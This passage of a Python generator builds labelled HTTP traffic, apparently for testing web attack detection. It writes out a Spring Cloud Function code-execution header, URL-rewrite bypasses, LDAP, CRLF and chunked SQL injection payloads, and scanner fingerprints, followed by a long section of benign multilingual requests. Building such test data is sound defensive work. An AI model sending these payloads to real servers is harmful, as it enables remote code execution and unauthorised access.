         [["Host", FW["symfony"]], ["User-Agent", UA["curl"]], ["Accept", "*/*"], ["X-Original-URL", "/admin/users/delete/1"]])
    emit("header-x-rewrite-url-generic", "generic", "GET", "/index.php",
         [["Host", FW["iis"]], ["User-Agent", UA["curl"]], ["Accept", "*/*"], ["X-Rewrite-URL", "/../../admin/config.aspx"]])
    emit("header-spring-cloud-function-java", "java", "POST", "/functionRouter",
         [["Host", FW["spring"]], ["User-Agent", UA["curl"]], ["Accept", "*/*"], ["Content-Type", "text/plain"],
          ["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")"]], "test")


def atk_misc():
    # LDAP filter injection through several parsers
    fpost("ldap-hpp-last-wins-ldapi", "ldapi", "php", "/login.php", form([("user", "jdoe"), ("user", P("ldapi")), ("pass", "x")]))
    send("ldap-json-unicode-escape-ldapi", "ldapi", "express", "POST", "/api/login", "application/json",
         '{"username": "%s", "password": "x"}' % json_u(P("ldapi")))
    fget("ldap-double-encoded-ldapi", "ldapi", "php", "/directory/search.php?cn=" + q(q(P("ldapi"))))
    fpost("ldap-form-spring-ldapi", "ldapi", "spring", "/login", form([("username", P("ldapi")), ("password", "irrelevant")]))
    send("ldap-json-dup-key-ldapi", "ldapi", "go", "POST", "/api/directory/search", "application/json",
         '{"uid": "jdoe", "uid": %s}' % jd(P("ldapi")), ua=UA["go"])
    b = BOUNDARY["firefox"]()
    mp_post("ldap-mp-quoted-boundary-ldapi", "ldapi", "django", "/accounts/login/", f'multipart/form-data; boundary="{b}"',
            mp(b, std_parts("django") + [part("username", P("ldapi")), part("password", "x")]))
    # CRLF / response splitting
    for fw, path, fld in [("php", "/redirect.php", "url"), ("rails", "/logout", "return_to"), ("express", "/auth/callback", "next"),
                          ("go", "/r", "u"), ("spring", "/lang", "locale")]:
        fget(f"crlf-query-{fw}", "crlf", fw, path + "?" + fld + "=" + P("crlf"))
    send("crlf-json-filename", "crlf", "flask", "POST", "/api/exports", "application/json",
         jd({"format": "csv", "filename": "report.csv\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"}))
    # scanners driving parser quirks
    raw_send("scanner-sqlmap-chunked", "scanner", FW["php"], "POST", "/products.php",
             [("Content-Type", FORM_CT), ("Transfer-Encoding", "chunked")],
             chunked(["id=1%29%20AND%2083", "82%3D8382%20AND%20%289", "371%3D9371"]), ua="sqlmap/1.8.4#stable (https://sqlmap.org)")
    emit("scanner-nikto", "scanner", "GET", "/.git/HEAD",
         [["Host", FW["django"]], ["User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:001208)"], ["Accept", "*/*"]])
    emit("scanner-nuclei", "scanner", "GET", "/actuator;/heapdump",
         [["Host", FW["spring"]], ["User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"], ["Accept", "*/*"]])
    emit("scanner-ffuf", "scanner", "GET", "/.env.backup",
         [["Host", FW["laravel"]], ["User-Agent", "Fuzz Faster U Fool v2.1.0-dev"], ["Accept", "*/*"]])
    emit("scanner-wpscan", "scanner", "POST", "/xmlrpc.php",
         [["Host", FW["php"]], ["User-Agent", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"], ["Accept", "*/*"],
          ["Content-Type", "text/xml"]],
         "<?xml version=\"1.0\"?><methodCall><methodName>system.listMethods</methodName><params></params></methodCall>")
    emit("scanner-acunetix", "scanner", "GET", "/acunetix-wvs-test-for-some-inexistent-file",
         [["Host", FW["aspnet"]], ["User-Agent", BROWSER_UA[0]], ["Accept", "*/*"], ["Acunetix-Aspect", "enabled"],
          ["Acunetix-Aspect-Password", "082119f75623eb7abd7bf357698ff66c"], ["Acunetix-Aspect-Queries", "filelist;aspectalerts"]])
    emit("scanner-netsparker", "scanner", "GET", "/search?q=netsparker%280x000A4E%29",
         [["Host", FW["rails"]], ["User-Agent", BROWSER_UA[1]], ["Accept", "*/*"], ["X-Scanner", "Netsparker"]])
    emit("scanner-dirbuster", "scanner", "GET", "/WEB-INF/web.xml",
         [["Host", FW["spring"]], ["User-Agent", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"]])
    emit("scanner-openvas", "scanner", "GET", "/cgi-bin/php-cgi?-s",
         [["Host", FW["php"]], ["User-Agent", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)"], ["Accept", "*/*"]])


def gen_attacks():
    atk_multipart()
    atk_json()
    atk_form()
    atk_ctype()
    atk_xml()
    atk_http()
    atk_misc()




# ---------------------------------------------------------------------------
# BENIGN
# ---------------------------------------------------------------------------

TEXTS = [
    "Thanks for the quick delivery! The jacket fits perfectly, although the sleeves are a bit long.",
    "I'm not sure it's the right size \u2014 could you check the measurements for a 42 EU?",
    "K\u00f6nnten Sie mir bitte die Rechnung f\u00fcr Bestellung 48213 noch einmal zuschicken? Vielen Dank im Voraus.",
    "Bonjour, je souhaite modifier l'adresse de livraison : 12 rue de la Paix, 75002 Paris.",
    "\u00bfEs posible cambiar la talla despu\u00e9s de haber realizado el pedido? Gracias.",
    "O produto chegou com a embalagem danificada, mas funciona bem. Nota 4/5.",
    "Ottimo servizio, consegna in 48 ore. Lo consiglio a tutti!",
    "\u6ce8\u6587\u3057\u305f\u5546\u54c1\u304c\u307e\u3060\u5c4a\u3044\u3066\u3044\u307e\u305b\u3093\u3002\u914d\u9001\u72b6\u6cc1\u3092\u78ba\u8a8d\u3057\u3066\u3044\u305f\u3060\u3051\u307e\u3059\u304b\uff1f",
    "\u8bf7\u95ee\u8fd9\u4e2a\u578b\u53f7\u652f\u6301\u4e2d\u6587\u8bed\u97f3\u5417\uff1f\u6211\u60f3\u4e70\u4e24\u53f0\u9001\u7ed9\u7236\u6bcd\u3002",
    "\ubc30\uc1a1\uc774 \uc815\ub9d0 \ube68\ub790\uc5b4\uc694. \ub2e4\uc74c\uc5d0\ub3c4 \uc774\uc6a9\ud560\uac8c\uc694!",
    "\u0417\u0434\u0440\u0430\u0432\u0441\u0442\u0432\u0443\u0439\u0442\u0435! \u041f\u043e\u0434\u0441\u043a\u0430\u0436\u0438\u0442\u0435, \u043f\u043e\u0436\u0430\u043b\u0443\u0439\u0441\u0442\u0430, \u043a\u043e\u0433\u0434\u0430 \u0431\u0443\u0434\u0435\u0442 \u043f\u043e\u0441\u0442\u0430\u0432\u043a\u0430 \u043d\u0430 \u0441\u043a\u043b\u0430\u0434 \u0432 \u041c\u043e\u0441\u043a\u0432\u0435?",
    "\u0645\u0631\u062d\u0628\u0627\u060c \u0623\u0631\u064a\u062f \u0625\u0644\u063a\u0627\u0621 \u0627\u0644\u0637\u0644\u0628 \u0631\u0642\u0645 7731 \u0648\u0627\u0633\u062a\u0631\u062f\u0627\u062f \u0627\u0644\u0645\u0628\u0644\u063a \u0645\u0646 \u0641\u0636\u0644\u0643\u0645.",
    "\u05e9\u05dc\u05d5\u05dd, \u05d4\u05d0\u05dd \u05d0\u05e4\u05e9\u05e8 \u05dc\u05e7\u05d1\u05dc \u05d7\u05e9\u05d1\u05d5\u05e0\u05d9\u05ea \u05de\u05e1 \u05e2\u05dc \u05d4\u05d4\u05d6\u05de\u05e0\u05d4?",
    "\u0928\u092e\u0938\u094d\u0924\u0947, \u092e\u0947\u0930\u093e \u092a\u093e\u0938\u0935\u0930\u094d\u0921 \u0930\u0940\u0938\u0947\u091f \u0932\u093f\u0902\u0915 \u0915\u093e\u092e \u0928\u0939\u0940\u0902 \u0915\u0930 \u0930\u0939\u093e \u0939\u0948\u0964",
    "Merhaba, sipari\u015fimi iptal etmek istiyorum. Te\u015fekk\u00fcrler.",
    "Dzie\u0144 dobry, czy mog\u0119 zmieni\u0107 godzin\u0119 dostawy na popo\u0142udnie?",
    "\u039a\u03b1\u03bb\u03b7\u03c3\u03c0\u03ad\u03c1\u03b1, \u03b8\u03b1 \u03ae\u03b8\u03b5\u03bb\u03b1 \u03bd\u03b1 \u03b5\u03bd\u03b7\u03bc\u03b5\u03c1\u03c9\u03b8\u03ce \u03b3\u03b9\u03b1 \u03c4\u03b7\u03bd \u03b5\u03b3\u03b3\u03cd\u03b7\u03c3\u03b7 \u03c4\u03bf\u03c5 \u03c0\u03c1\u03bf\u03ca\u03cc\u03bd\u03c4\u03bf\u03c2.",
    "Xin ch\u00e0o, t\u00f4i mu\u1ed1n \u0111\u1ed5i \u0111\u1ecba ch\u1ec9 giao h\u00e0ng sang H\u00e0 N\u1ed9i.",
    "Hallo, kunnen jullie het pakket bij de buren afleveren als ik niet thuis ben?",
    "Hej! G\u00e5r det att betala med faktura? Mvh \u00c5sa",
    "\u0414\u043e\u0431\u0440\u043e\u0433\u043e \u0434\u043d\u044f! \u0427\u0438 \u043c\u043e\u0436\u043d\u0430 \u043e\u0444\u043e\u0440\u043c\u0438\u0442\u0438 \u0434\u043e\u0441\u0442\u0430\u0432\u043a\u0443 \u0434\u043e \u041b\u044c\u0432\u043e\u0432\u0430?",
    "Meeting moved to Thursday 3pm (CET). Agenda: Q3 numbers, hiring plan & the new office lease.",
    "Great article! One question: does the 2-for-1 offer also apply to orders placed before May 1st?",
    "Please select \"Express\" shipping and add gift wrap; it's for my mum's 60th birthday :)",
    "The app crashes when I rotate the screen on the checkout page (Android 14, Pixel 8).",
    "Hi team, our invoice #INV-2024-0912 shows 19% VAT but we're VAT-exempt (reverse charge). Could you fix it?",
]

NAMES = ["Mar\u00eda Jos\u00e9 Garc\u00eda", "J\u00fcrgen Gro\u00df", "Zo\u00eb O'Neill", "\u674e\u96f7", "Chlo\u00e9 Dubois",
         "Anna Kowalska", "Ivan Petrov", "Aarav Sharma", "Yuki Tanaka", "Fatima Al-Sayed", "S\u00f8ren \u00d8stergaard",
         "Nguy\u1ec5n V\u0103n An", "Sean D'Arcy", "Ol\u00e1f Arnalds", "Kwame Mensah", "Lucia Rossi", "Emma Johansson"]

FILENAMES = ["Lebenslauf_J\u00fcrgen_Gro\u00df.pdf", "\u043e\u0442\u0447\u0451\u0442_2024-Q3.xlsx", "\u898b\u7a4d\u66f8_\u7b2c12\u53f7.pdf",
             "r\u00e9sum\u00e9 Chlo\u00e9.docx", "\u0641\u0627\u062a\u0648\u0631\u0629-1445.pdf", "Presupuesto a\u00f1o 2025.ods",
             "\u7167\u7247 2024-05-12 14.22.31.jpg", "\u00c6r\u00f8 kort.png", "Zeugnis (Kopie) \u2013 final.pdf",
             "\u0e43\u0e1a\u0e40\u0e2a\u0e23\u0e47\u0e08.pdf", "\u00dcbersicht Q1+Q2.csv", "informe_se\u00f1al_d\u00e9bil.txt"]

TERMS = ["wireless headphones", "running shoes", "usb-c cable 2m", "espresso machine", "kids bike 16 inch",
         "winter jacket", "standing desk", "4k monitor", "yoga mat", "dog food grain free", "laptop sleeve 14\"",
         "bluetooth speaker waterproof", "caf\u00e9 cr\u00e8me", "Schreibtischlampe", "\u30b3\u30fc\u30d2\u30fc\u8c46",
         "garden hose 30m", "rock'n'roll vinyl", "c++ primer", "size 10 1/2", "100% cotton t-shirt"]

CITIES = [("Berlin", "10115", "DE"), ("Paris", "75002", "FR"), ("Madrid", "28013", "ES"), ("Tokyo", "100-0005", "JP"),
          ("S\u00e3o Paulo", "01310-100", "BR"), ("K\u00f8benhavn", "1050", "DK"), ("Krak\u00f3w", "31-008", "PL"),
          ("Toronto", "M5H 2N2", "CA"), ("Austin", "78701", "US"), ("Z\u00fcrich", "8001", "CH")]


def png_bytes(w=2, h=2):
    rgb = bytes([R.randrange(256) for _ in range(3)])
    rows = b"".join(b"\x00" + rgb * w for _ in range(h))

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b""))


def jpeg_bytes(n=400):
    return (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00\xff\xdb\x00\x43\x00"
            + bytes(R.getrandbits(8) for _ in range(n)) + b"\xff\xd9")


def pdf_bytes():
    return (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R "
            b"/MediaBox [0 0 595 842] >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")


def csv_text():
    rows = ["date,sku,qty,unit_price,currency"]
    for _ in range(R.randint(3, 7)):
        rows.append(f"2024-0{R.randint(1, 9)}-{R.randint(10, 28)},SKU-{R.randint(10000, 99999)},{R.randint(1, 20)},"
                    f"{R.randint(1, 500)}.{R.randint(10, 99)},EUR")
    return "\n".join(rows) + "\n"


def ical_text():
    return ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example Corp//Calendar 1.0//EN\r\nBEGIN:VEVENT\r\n"
            f"UID:{ruuid()}@example.com\r\nDTSTAMP:20240512T101500Z\r\nDTSTART;TZID=Europe/Berlin:20240520T093000\r\n"
            "SUMMARY:Quartalsplanung Q3\r\nLOCATION:Raum 4.12\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")


def rfc5987(s):
    return "UTF-8''" + q(s, safe="!#$&+-.^_`|~")


def mime_b64(s):
    return "=?utf-8?B?" + base64.b64encode(s.encode()).decode() + "?="


def b_mp(slug, fw, path, client, parts, *, extra=(), method="POST", raw_mode=None, quote_boundary=False, cat="benign"):
    b = BOUNDARY[client]()
    body = mp(b, parts(b) if callable(parts) else parts)
    ctype = f'multipart/form-data; boundary="{b}"' if quote_boundary else f"multipart/form-data; boundary={b}"
    ua = {"chrome": pick([UA["chrome"], UA["chrome-mac"], BROWSER_UA[7], UA["android"]]), "safari": pick([UA["safari"], UA["ios"]]),
          "firefox": pick([UA["firefox"], BROWSER_UA[3]]), "firefox-old": BROWSER_UA[3]}.get(client, UA.get(client, UA["okhttp"]))
    if raw_mode is None:
        try:
            body.decode("utf-8")
            raw_mode = False
        except UnicodeDecodeError:
            raw_mode = True
    if client in ("chrome", "safari", "firefox", "firefox-old"):
        send(slug, cat, fw, method, path, ctype, body, ua=ua, raw_mode=raw_mode, extra=extra, xhr=False)
    else:
        send(slug, cat, fw, method, path, ctype, body, ua=ua, api=True, raw_mode=raw_mode, extra=extra,
             auth=bearer() if fw in ("express", "spring", "fastapi", "go", "aspnet") else None)


def ben_multipart():
    # browsers: profile photos, attachments, documents with CSRF tokens
    for i in range(26):
        fw = ["django", "rails", "laravel", "aspnet", "express", "flask", "spring", "php", "symfony"][i % 9]
        client = ["chrome", "firefox", "safari", "firefox-old"][i % 4]
        kind = i % 6
        name = pick(NAMES)
        parts = std_parts(fw)
        if kind == 0:
            parts += [part("display_name", name), part("bio", pick(TEXTS)),
                      part("avatar", png_bytes(R.randint(1, 4), R.randint(1, 4)), filename=f"IMG_{R.randint(1000, 9999)}.png", ctype="image/png")]
            path = "/settings/profile"
        elif kind == 1:
            parts += [part("subject", "Order " + str(R.randint(10000, 99999))), part("message", pick(TEXTS)),
                      part("attachment", jpeg_bytes(), filename=f"photo_{R.randint(1, 99)}.jpg", ctype="image/jpeg")]
            path = "/support/tickets"
        elif kind == 2:
            parts += [part("title", "Quarterly report"), part("visibility", "team"),
                      part("file", csv_text(), filename=f"sales_{R.randint(2021, 2025)}.csv", ctype="text/csv")]
            path = "/documents/upload"
        elif kind == 3:
            fn = pick(FILENAMES)
            parts += [part("application[name]", name), part("application[email]", f"applicant{R.randint(1, 999)}@example.org"),
                      part("application[cv]", pdf_bytes(), filename=fn, ctype="application/pdf")]
            path = "/careers/apply"
        elif kind == 4:
            parts += [part("event", "Team offsite"), part("calendar", ical_text(), filename="invite.ics", ctype="text/calendar")]
            path = "/calendar/import"
        else:
            parts += [part("album", "Urlaub 2024"), part("files[]", png_bytes(), filename="a.png", ctype="image/png"),
                      part("files[]", png_bytes(), filename="b.png", ctype="image/png"), part("files[]", b"", filename="", ctype="application/octet-stream")]
            path = "/gallery/upload"
        if fw == "php":
            path += ".php"
        if fw == "rails" and kind == 0:
            parts = [part("_method", "patch")] + parts
        b_mp(f"browser-multipart-{client}", fw, path, client, parts)

    # Chrome/Firefox escape quotes and keep raw UTF-8 in filename="..."
    for fn in ["Rechnung \"M\u00e4rz\" 2024.pdf", "\u0441\u043f\u0438\u0441\u043e\u043a \u043f\u043e\u043a\u0443\u043f\u043e\u043a.txt", "\u4f1a\u8b70\u30e1\u30e2.txt", "caf\u00e9 menu; final v2.txt"]:
        b_mp("browser-multipart-utf8-filename", "django", "/files/", "chrome",
             std_parts("django") + [part("file", "Lorem ipsum dolor sit amet.\n", filename=fn.replace('"', "%22"), ctype="text/plain")])

    # .NET HttpClient: unquoted name, MIME-encoded filename plus filename*=utf-8''
    for i in range(6):
        fn = FILENAMES[i]
        data = csv_text() if fn.endswith(("csv", "txt", "ods", "xlsx")) else "placeholder content " + hexs(16)
        parts = [([f'Content-Disposition: form-data; name=file; filename="{mime_b64(fn)}"; filename*={rfc5987(fn)}',
                   "Content-Type: application/octet-stream"], data),
                 (["Content-Type: text/plain; charset=utf-8", "Content-Disposition: form-data; name=folderId"], str(R.randint(100, 999)))]
        b_mp("dotnet-multipart-filename-star", "aspnet", "/api/files", "dotnet", parts, quote_boundary=True)
    # RFC 5987 filename* from other SDKs (urllib3 1.x style, curl with --form-string)
    for i in range(5):
        fn = FILENAMES[6 + i]
        parts = [([f'Content-Disposition: form-data; name="document"; filename*={rfc5987(fn)}', "Content-Type: application/octet-stream"],
                  "sample " + hexs(24)),
                 part("description", pick(TEXTS))]
        b_mp("sdk-multipart-filename-star", pick(["flask", "fastapi", "django"]), "/api/documents", "requests", parts)

    # mobile and server SDKs with their real boundary and header styles
    for i in range(8):
        # okhttp adds a Content-Length to each part
        img = jpeg_bytes(R.randint(200, 500))
        cap = pick(TEXTS)
        parts = [(['Content-Disposition: form-data; name="caption"', f"Content-Length: {len(cap.encode())}"], cap),
                 (['Content-Disposition: form-data; name="photo"; filename="IMG_%d.jpg"' % R.randint(20240101, 20241231),
                   "Content-Type: image/jpeg", f"Content-Length: {len(img)}"], img)]
        b_mp("okhttp-multipart", pick(["spring", "express", "go"]), "/api/v1/posts/media", "okhttp", parts)
    for i in range(5):
        img = jpeg_bytes()
        parts = [part("user_id", str(R.randint(1000, 99999))), part("avatar", img, filename="avatar.jpg", ctype="image/jpeg")]
        b_mp("alamofire-multipart", pick(["rails", "django", "fastapi"]), "/api/me/avatar", "alamofire", parts)
    for i in range(5):
        note = pick(TEXTS)
        parts = [(['content-type: text/plain; charset=utf-8', 'content-disposition: form-data; name="note"'], note),
                 (['content-type: application/octet-stream', 'content-disposition: form-data; name="receipt"; filename="receipt.png"'],
                  png_bytes())]
        b_mp("dart-multipart", pick(["express", "go", "laravel"]), "/api/expenses", "dart", parts)
    for i in range(5):
        parts = [part("metadata", jd({"name": pick(FILENAMES), "parents": [tok(28)], "mimeType": "text/csv"}), ctype="application/json; charset=UTF-8"),
                 part("media", csv_text(), ctype="text/csv")]
        b_mp("go-multipart-json-metadata", "go", "/upload/v1/files?uploadType=multipart", "go", parts)
    for i in range(5):
        parts = [part("file", csv_text(), filename=f"export-{R.randint(1, 500)}.csv", ctype="text/csv"),
                 part("overwrite", "true")]
        b_mp("curl-multipart", pick(["fastapi", "flask", "go", "express"]), "/api/imports", "curl", parts)
    for i in range(4):
        parts = [part("form_id", str(R.randint(1, 90))), part("comment", pick(TEXTS)),
                 part("file", "{\"version\": 3, \"items\": []}\n", filename="backup.json", ctype="application/json")]
        b_mp("axios-form-data-multipart", "express", "/api/forms/submit", "axios", parts)
    for i in range(4):
        parts = [(['Content-Disposition: form-data; name="file"; filename="statement.pdf"', "Content-Type: application/pdf",
                   "Content-Transfer-Encoding: binary"], pdf_bytes()),
                 (['Content-Disposition: form-data; name="accountId"', "Content-Type: text/plain; charset=ISO-8859-1",
                   "Content-Transfer-Encoding: 8bit"], str(R.randint(10 ** 7, 10 ** 8)))]
        b_mp("apache-httpclient-multipart", "spring", "/api/statements", "apache", parts)
    for i in range(3):
        parts = [part("meta", jd({"title": pick(TERMS), "tags": ["a", "b"]}), ctype="application/json"),
                 part("file", csv_text(), filename="data.csv", ctype="text/csv")]
        b_mp("spring-requestpart-json", "spring", "/api/datasets", "javamail", parts, quote_boundary=True)
    # multipart PATCH / PUT from SPAs
    for i in range(3):
        parts = [part("name", pick(NAMES)), part("locale", pick(["de-DE", "fr-FR", "ja-JP", "pt-BR"])),
                 part("notify[email]", "1"), part("notify[sms]", "0")]
        b_mp("spa-multipart-put", pick(["laravel", "rails"]), "/api/account", "chrome", parts, method="PUT")
    # browsers send empty file inputs and bare-LF textarea content is normalised to CRLF
    for i in range(3):
        parts = std_parts("django") + [part("comment", pick(TEXTS).replace(". ", ".\r\n")),
                                       part("attachment", "", filename="", ctype="application/octet-stream")]
        b_mp("browser-multipart-empty-file", "django", "/blog/comment/", "firefox", parts)


def iso_ts():
    return "2024-%02d-%02dT%02d:%02d:%02d.%03dZ" % (R.randint(1, 12), R.randint(1, 28), R.randint(0, 23),
                                                   R.randint(0, 59), R.randint(0, 59), R.randint(0, 999))


def email():
    return pick(["anna", "j.doe", "m.garcia", "support", "yuki.t", "k.mensah", "lucia", "ops-team", "noreply"]) + \
        str(R.randint(1, 99)) + "@" + pick(["example.com", "example.org", "example.net", "mail.example.com"])


def street():
    return pick(["Hauptstra\u00dfe 5", "12 rue de la Paix", "Calle Mayor 7, 3\u00ba B", "221B Baker Street",
                 "Av. Paulista, 1578", "Ul. Floria\u0144ska 14/3", "1-1 Chiyoda", "Bahnhofstrasse 21",
                 "350 Fifth Avenue, Suite 3300", "N\u00f8rregade 10, 2. tv"])


def api_json_bodies():
    """Factories of realistic JSON API calls: (fw, method, path, obj, extra headers)."""
    def order():
        c = pick(CITIES)
        return ("spring", "POST", "/api/v1/orders", {
            "customerId": ruuid(), "currency": "EUR", "couponCode": pick([None, "SPRING24", "WELCOME10"]),
            "items": [{"sku": f"SKU-{R.randint(10000, 99999)}", "qty": R.randint(1, 4), "unitPrice": round(R.uniform(3, 300), 2)}
                      for _ in range(R.randint(1, 4))],
            "shippingAddress": {"name": pick(NAMES), "line1": street(), "city": c[0], "postalCode": c[1], "country": c[2]},
            "notes": pick(TEXTS)}, [("Idempotency-Key", ruuid())])

    def profile():
        return ("express", "PUT", "/api/users/me", {
            "displayName": pick(NAMES), "bio": pick(TEXTS), "website": f"https://www.example.org/~{tok(6).lower()}",
            "timezone": pick(["Europe/Berlin", "America/Sao_Paulo", "Asia/Tokyo", "Pacific/Auckland"]),
            "avatarUrl": f"https://cdn.example.net/avatars/{hexs(24)}.png?v={R.randint(1, 9)}"}, [])

    def analytics():
        evs = []
        for _ in range(R.randint(2, 5)):
            evs.append({"event": pick(["page_view", "add_to_cart", "begin_checkout", "search"]), "ts": iso_ts(),
                        "props": {"path": pick(["/pricing", "/p/usb-c-cable", "/cart", "/search"]),
                                  "referrer": "https://www.example.com/?utm_source=newsletter&utm_medium=email&utm_campaign=may_sale",
                                  "screen": pick(["1920x1080", "390x844", "1440x900"])}})
        return ("go", "POST", "/v1/batch", {"batch": evs, "sentAt": iso_ts(), "anonymousId": ruuid()}, [])

    def chat():
        return ("fastapi", "POST", f"/api/conversations/{R.randint(1000, 9999)}/messages", {
            "text": pick(TEXTS), "client_msg_id": ruuid(),
            "attachments": [{"type": "image", "url": f"https://cdn.example.net/u/{hexs(12)}/IMG_{R.randint(1000, 9999)}.jpeg", "width": 1170, "height": 2532}]}, [])

    def calendar():
        return ("aspnet", "POST", "/api/events", {
            "subject": pick(["Quartalsplanung", "1:1", "Design review", "Sprint retro", "R\u00e9union d'\u00e9quipe"]),
            "start": {"dateTime": "2024-05-20T09:30:00", "timeZone": "W. Europe Standard Time"},
            "end": {"dateTime": "2024-05-20T10:00:00", "timeZone": "W. Europe Standard Time"},
            "attendees": [{"emailAddress": {"address": email(), "name": pick(NAMES)}, "type": "required"}],
            "isOnlineMeeting": True}, [])

    def payment():
        return ("express", "POST", "/v1/payment_intents", {
            "amount": R.randint(100, 50000), "currency": pick(["usd", "eur", "gbp", "jpy"]), "payment_method_types": ["card"],
            "metadata": {"order_id": f"ORD-{R.randint(100000, 999999)}", "channel": "web"},
            "description": "Order for " + pick(NAMES)}, [("Idempotency-Key", ruuid())])

    def search():
        return ("django", "POST", "/api/search/", {
            "query": pick(TERMS), "filters": {"price": {"gte": 10, "lte": 200}, "brand": ["Acme", "Globex"], "in_stock": True},
            "sort": [{"field": "price", "order": "asc"}], "page": R.randint(1, 5), "page_size": 24}, [])

    def telemetry():
        return ("go", "POST", "/ingest/telemetry", {
            "deviceId": f"sensor-{hexs(8)}", "fw": "2.3.1",
            "readings": [{"t": 1715508900 + 60 * k, "temp": round(R.uniform(18, 26), 1), "hum": round(R.uniform(0.3, 0.6), 2)} for k in range(3)]}, [])

    def flags():
        return ("express", "POST", "/sdk/evaluate", {
            "user": {"key": ruuid(), "country": pick(["DE", "US", "JP", "BR"]), "custom": {"plan": pick(["free", "pro", "enterprise"])}},
            "flags": ["new-checkout", "dark-mode", "search-v2"]}, [])

    def webhook():
        return ("laravel", "POST", "/api/webhooks", {
            "url": f"https://hooks.example.com/services/T{tok(8).upper()}/B{tok(8).upper()}/{tok(24)}",
            "events": ["order.created", "order.refunded"], "secret": tok(32), "active": True}, [])

    def filemeta():
        p = png_bytes(R.randint(2, 6), R.randint(2, 6))
        return ("flask", "POST", "/api/files/metadata", {
            "name": pick(FILENAMES), "size": R.randint(1000, 9000000), "sha256": hexs(64),
            "thumbnail": base64.b64encode(p).decode()}, [])

    def push():
        return ("rails", "POST", "/api/devices", {"device": {
            "platform": pick(["android", "ios"]), "token": tok(22) + ":APA91b" + tok(134, ALNUM + "-_"),
            "app_version": "5.2.1", "locale": pick(["de_DE", "en_US", "ja_JP"])}}, [])

    def address():
        c = pick(CITIES)
        return ("spring", "POST", "/api/address/validate", {"line1": street(), "city": c[0], "postalCode": c[1], "country": c[2]}, [])

    def login():
        pw = pick(["Tr0ub4dor&3!", "correct horse battery staple", "S0mmer#2024", "p@ssW0rd-for-work", "Mi\u00dfTrauen_99", "kT9$zq!Lm2#x"])
        return ("django", "POST", "/api/auth/token/", {"email": email(), "password": pw, "remember": True}, [])

    def comment():
        return ("rails", "POST", f"/posts/{R.randint(1, 900)}/comments.json", {"comment": {"body": pick(TEXTS), "parent_id": R.randint(1, 50)}}, [])

    def i18n():
        return ("php", "PUT", "/admin/api/translations.php", {"locale": "fr", "strings": {
            "checkout.title": "Paiement", "cart.empty": "Votre panier est vide", "cta.buy": "Acheter maintenant",
            "legal.vat": "TVA incluse (20 %)"}}, [])

    def refresh():
        return ("fastapi", "POST", "/auth/refresh", {"grant_type": "refresh_token", "refresh_token": tok(64), "client_id": "mobile-ios"}, [])

    def survey():
        return ("symfony", "POST", "/api/surveys/12/answers", {"answers": [{"q": 1, "a": "Sehr zufrieden"}, {"q": 2, "a": ["price", "support"]},
                                                                          {"q": 3, "a": pick(TEXTS)}], "nps": R.randint(0, 10)}, [])

    def geo():
        return ("go", "POST", "/api/places", {"type": "FeatureCollection", "features": [
            {"type": "Feature", "geometry": {"type": "Point", "coordinates": [round(R.uniform(-180, 180), 5), round(R.uniform(-80, 80), 5)]},
             "properties": {"name": pick(["Alexanderplatz", "Shibuya Crossing", "Pra\u00e7a da S\u00e9", "Nyhavn"]), "rating": 4.5}}]}, [])

    def cart():
        return ("laravel", "PATCH", f"/api/cart/{ruuid()}", {"items": [{"id": R.randint(1, 99999), "quantity": R.randint(1, 3)}],
                                                          "gift_message": pick(TEXTS)}, [])

    return [order, profile, analytics, chat, calendar, payment, search, telemetry, flags, webhook, filemeta, push,
            address, login, comment, i18n, refresh, survey, geo, cart]


def ben_json():
    facts = api_json_bodies()
    for i in range(62):
        f = facts[i % len(facts)]
        fw, method, path, obj, extra = f()
        browser = fw in ("django", "rails", "laravel", "php", "symfony") or i % 3 == 0
        ua = None if browser else pick([UA["okhttp"], UA["alamofire"], UA["axios"], UA["go"], UA["requests"], UA["dart"], UA["java"]])
        send(f"json-api-{f.__name__}", "benign", fw, method, path, "application/json" + pick(["", "; charset=utf-8", ";charset=UTF-8"]),
             jd(obj), ua=ua, extra=extra, auth=None if browser else bearer(),
             version="HTTP/2" if i % 5 == 0 else "HTTP/1.1")

    # .NET clients that prepend a UTF-8 BOM
    for i in range(8):
        fw, method, path, obj, extra = facts[(i * 3) % len(facts)]()
        send("json-bom-dotnet-client", "benign", "aspnet" if i % 2 else "spring", method, path, "application/json; charset=utf-8",
             "\ufeff" + jd(obj, indent=2), ua=UA["dotnet"], api=True, auth=bearer())
    # UTF-16 JSON from Windows tooling (Jackson and System.Text.Json read it)
    for i in range(3):
        obj = {"machine": f"WS-{R.randint(1000, 9999)}", "user": "EXAMPLE\\" + pick(["jgross", "mgarcia", "ytanaka"]),
               "installed": [{"name": "Microsoft Edge", "version": "124.0.2478.80"}, {"name": "7-Zip 23.01 (x64)", "version": "23.01"}],
               "collected": iso_ts()}
        send("json-utf16-windows-agent", "benign", "spring", "POST", "/api/inventory", "application/json; charset=utf-16",
             ("\ufeff" + jd(obj)).encode("utf-16-le"), raw_mode=True, api=True, ua="WindowsPowerShell/5.1.19041.4291")

    # JSON:API, merge-patch, JSON patch
    for i in range(6):
        doc = {"data": {"type": "articles", "attributes": {"title": pick(TERMS).title(), "body": pick(TEXTS),
                                                          "published-at": iso_ts()},
